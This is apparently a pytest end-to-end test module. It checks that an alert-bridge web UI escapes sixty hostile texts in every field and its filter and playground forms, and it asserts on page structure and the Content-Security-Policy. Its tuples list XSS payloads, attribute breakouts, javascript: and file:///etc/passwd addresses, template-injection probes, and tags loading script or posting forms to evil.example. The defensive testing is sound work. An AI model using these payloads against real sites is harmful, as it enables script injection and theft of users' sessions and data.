"""Sixty hostile texts through every field, upstream's errors included: no page gains an element or an attribute."""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from html.parser import HTMLParser
from typing import Any

import pytest
import requests

from bridge.entrypoints.web.ui import LINES_SHOWN
from tests.e2e.processes import ANSWER_WITHIN_S, Bridge, alert

pytestmark = pytest.mark.e2e

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>", "<form action=//evil.example><input name=csrf_token></form>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>", "<plaintext>", "<!--", "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>",
)  # fmt: skip
BREAKOUTS = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='", '" style="position:fixed', "` onmouseover=alert(1) `",
    '"/><svg/onload=alert(1)>', "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</pre></details><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>", "</option></select><script>", "</form><form action=//evil.example>",
    "</a><a href='//evil.example'>", "</code><b onclick=alert(1)>", '\\"><script>alert(1)</script>',
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "file:///etc/passwd",
    "https://x.example/\"onclick=\"alert(1)",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}", "{{ config }}", "${7*7}", "<%= 7*7 %>", "\u202e<script>\u202c",
)  # fmt: skip
HOSTILE = (*MARKUP, *BREAKOUTS, *ADDRESSES, *TEMPLATES)
HARMLESS = "harmless"
AT_ONCE = LINES_SHOWN  # of one webhook, so that lists show each
MORE = {("p", ()), ("a", ("class", "href")), ("br", ()), ("a", ("href", "rel"))}
"""What a longer list adds: the way to older ones, and links to addresses that may be linked to."""


class Skeleton(HTMLParser):
    """A page without its texts: its elements, each with the names of its attributes, and where its links lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[tuple[str, tuple[str, ...]]] = set()
        self.addresses: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add((tag, tuple(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]


def body_of(text: str, account: str, number: int) -> dict[str, Any]:
    """An alert that says one text everywhere."""
    links = [{"text": text, "href": "https://runbook.example/x"}, {"text": "there", "href": text}]
    more = {"description": text, "labels": {text: text}, "links": links, "episode": text, "team": {text: text}}
    return {**alert(text, account=account, **more), "fingerprint": f"{account} {number} {text}"}


@pytest.fixture(scope="module")
def bridge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bridge]:
    with Bridge(tmp_path_factory.mktemp("hostile")) as running:
        yield running


def page(bridge: Bridge, path: str) -> Skeleton:
    answer = requests.get(bridge.url + path, timeout=ANSWER_WITHIN_S)
    assert answer.status_code == 200, (path, answer.text)
    policy = answer.headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy
    return Skeleton(answer.text)


def told(bridge: Bridge, texts: Sequence[str]) -> dict[str, list[str]]:
    """Each text as an alert at both accounts, the first of which refuses it in its own words; the pages."""
    for text in texts:
        error = {"error": {"message": text, "code": 2001, "errors": [text]}}
        headers = {"X-Request-Id": re.sub(r"[^ -~]", "?", text)}
        refusal = {"status": 400, "body": error, "headers": headers}
        bridge.script(match={"api": "pagerduty", "method": "POST"}, times=2, do=refusal)
    found: dict[str, list[str]] = {kind: [] for kind in ("event", "dry", "incident", "letter", "rejected")}
    ids: list[str] = []
    for account in ("pd", "io"):
        body = {"alerts": [body_of(text, account, number) for number, text in enumerate(texts)]}
        event = bridge.deliver(body)["event"]
        found["event"].append(f"/events/{event}")
        found["dry"].append(f"/events/{event}/dry")
        ids += [one["incident"] for one in bridge.get(f"events/{event}")["alerts"]]

    def told_of() -> list[Any]:
        return [one for one in bridge.every("deliveries") if one["incident"] in ids]

    wanted = sorted(["dead", "delivered"] * len(texts))
    bridge.eventually(lambda: sorted(one["state"] for one in told_of()) == wanted, 60.0)
    found["incident"] = [f"/incidents/{one}" for one in ids]
    found["letter"] = [f"/dead/{one['id']}" for one in told_of() if one["state"] == "dead"]
    found["rejected"] = [f"/events/{bridge.post(json.dumps(text).encode()).json()['event']}" for text in texts]
    return found


def test_no_page_gains_an_element_or_an_attribute_whatever_a_text_says(bridge: Bridge) -> None:
    assert len(HOSTILE) == len(set(HOSTILE)) == 60
    expected = seen_on(bridge, told(bridge, [HARMLESS]))
    lists = [
        "/",
        "/events",
        "/incidents",
        "/incidents?state=",
        "/dead",
        "/dead?account=pd&rule=to-pd&reason=bad_request",
    ]
    before = {path: page(bridge, path).elements for path in lists}
    for start in range(0, len(HOSTILE), AT_ONCE):
        pages = told(bridge, HOSTILE[start : start + AT_ONCE])
        for kind, elements in seen_on(bridge, pages).items():
            assert elements <= expected[kind] | MORE, (start, kind, elements - expected[kind])
        for path, elements in before.items():
            seen = page(bridge, path)
            assert seen.elements <= elements | MORE, (path, seen.elements - elements)
            assert_harmless(seen, path)


def seen_on(bridge: Bridge, pages: Mapping[str, Sequence[str]]) -> dict[str, set[tuple[str, tuple[str, ...]]]]:
    """Every element of the pages of each kind; each page is harmless by itself."""
    found: dict[str, set[tuple[str, tuple[str, ...]]]] = {}
    for kind, paths in pages.items():
        for path in paths:
            seen = page(bridge, path)
            assert_harmless(seen, path)
            found.setdefault(kind, set()).update(seen.elements)
    return found


def assert_harmless(seen: Skeleton, about: str) -> None:
    for address in seen.addresses:
        assert re.match(r"(https?://|/(?!/)|#|\?|data:,$)", address), (about, address)
    for tag, attributes in seen.elements:
        assert tag not in ("iframe", "object", "embed", "base", "style"), about
        assert not any(name.startswith("on") or name in ("style", "srcdoc") for name in attributes), about


def test_filters_forms_and_the_playground_give_hostile_texts_back_as_text(bridge: Bridge) -> None:
    for text in HOSTILE:
        asked = dict.fromkeys(("q", "source", "rule", "account", "label"), text)
        answer = requests.get(f"{bridge.url}/events", params=asked, timeout=ANSWER_WITHIN_S)
        assert_harmless(Skeleton(answer.text), text)
        assert "<script>alert" not in answer.text
    with requests.Session() as browser:
        first = browser.get(f"{bridge.url}/playground", timeout=ANSWER_WITHIN_S).text
        token = re.search(r'name="csrf-token" content="([^"]+)"', first)
        assert token is not None
        alerts = [body_of(text, "pd", number) for number, text in enumerate(HOSTILE)]
        rules = "rules:\n" + "".join(f"  - {json.dumps(text)}: {json.dumps(text)}\n" for text in HOSTILE)
        for given in (rules, ""):
            form = {"csrf_token": token[1], "source": "lab", "body": json.dumps({"alerts": alerts}), "rules": given}
            answer = browser.post(f"{bridge.url}/playground", data=form, timeout=60)
            assert answer.status_code == 200
            assert_harmless(Skeleton(answer.text), given[:20])
            assert "<script>alert" not in answer.text
